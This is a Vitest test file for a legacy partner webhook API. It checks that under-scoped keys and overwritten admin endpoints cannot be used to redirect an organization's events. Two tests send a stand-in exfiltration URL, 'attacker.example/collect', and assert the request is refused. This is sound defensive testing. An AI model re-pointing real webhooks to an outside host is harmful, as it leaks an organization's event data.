import { describe, expect, it } from "vitest";
import { SELF } from "cloudflare:test";
import { call, newKey, newTenant } from "../helpers/api";
import { adminToken, receiverUrl } from "../helpers/webhooks";

describe("the legacy PATCH /partner/webhook cannot be used to redirect an organization's events", () => {
  it("a key with only envelopes:write cannot point the organization's all-events endpoint anywhere", async () => {
    const t = await newTenant();
    const writer = await newKey(t.orgId, ["envelopes:read", "envelopes:write"]);
    const res = await call("PATCH", "/partner/webhook", { key: writer.key, body: { url: "https://attacker.example/collect" } });
    expect(res.status).toBe(403);
    expect(res.body.error).toBe("Missing required scope: webhooks:write");
    const hooks = await call("GET", "/webhooks/endpoints", { bearer: await adminToken(t.orgId) });
    expect(hooks.body.data).toEqual([]);
  });

  it("the operator can grant webhooks:write, and a key holding it sets the legacy webhook", async () => {
    const t = await newTenant();
    const doc = (await (await SELF.fetch("http://localhost/api/v2/openapi.json")).json()) as { components: { schemas: Record<string, { enum?: string[] }> } };
    expect(doc.components.schemas.Scope!.enum).toContain("webhooks:write");
    const op = (doc as unknown as { paths: Record<string, Record<string, { description?: string }>> }).paths["/api/v2/partner/webhook"] ?? (doc as unknown as { paths: Record<string, Record<string, { description?: string }>> }).paths["/partner/webhook"];
    expect(JSON.stringify(op)).toContain("webhooks:write");
    const hooker = await newKey(t.orgId, ["webhooks:write"]);
    expect(hooker.key).toMatch(/^lk_/);
    const res = await call("PATCH", "/partner/webhook", { key: hooker.key, body: { url: receiverUrl("ok").url } });
    expect(res.status).toBe(200);
    expect(res.body.data).toMatchObject({ events: ["*"], is_active: true });
  });

  it("an endpoint an admin changed in the console is never re-pointed or deleted by the legacy route", async () => {
    const t = await newTenant();
    const first = await call("PATCH", "/partner/webhook", { key: t.key, body: { url: receiverUrl("ok").url } });
    expect(first.status).toBe(200);
    const admin = await adminToken(t.orgId);
    const endpointId = first.body.data.endpoint_id as string;
    const adminUrl = "https://hooks.lender.example/esign";
    expect((await call("PATCH", `/webhooks/endpoints/${endpointId}`, { bearer: admin, body: { url: adminUrl, events: ["envelope.completed"] } })).status).toBe(200);

    const repoint = await call("PATCH", "/partner/webhook", { key: t.key, body: { url: "https://attacker.example/collect" } });
    expect(repoint.status).toBe(409);
    expect((await call("PATCH", "/partner/webhook", { key: t.key, body: { url: null } })).status).toBe(409);
    const list = await call("GET", "/webhooks/endpoints", { bearer: admin });
    expect(list.body.data).toHaveLength(1);
    expect(list.body.data[0]).toMatchObject({ endpoint_id: endpointId, url: adminUrl, events: ["envelope.completed"] });
  });

  it("an admin's secret rotation alone keeps the legacy route working", async () => {
    const t = await newTenant();
    const first = await call("PATCH", "/partner/webhook", { key: t.key, body: { url: receiverUrl("ok").url } });
    const admin = await adminToken(t.orgId);
    expect((await call("POST", `/webhooks/endpoints/${first.body.data.endpoint_id}/rotate-secret`, { bearer: admin })).status).toBe(200);
    const again = await call("PATCH", "/partner/webhook", { key: t.key, body: { url: receiverUrl("ok").url } });
    expect(again.status).toBe(200);
    expect(again.body.data.secret_set).toBe(true);
  });
});
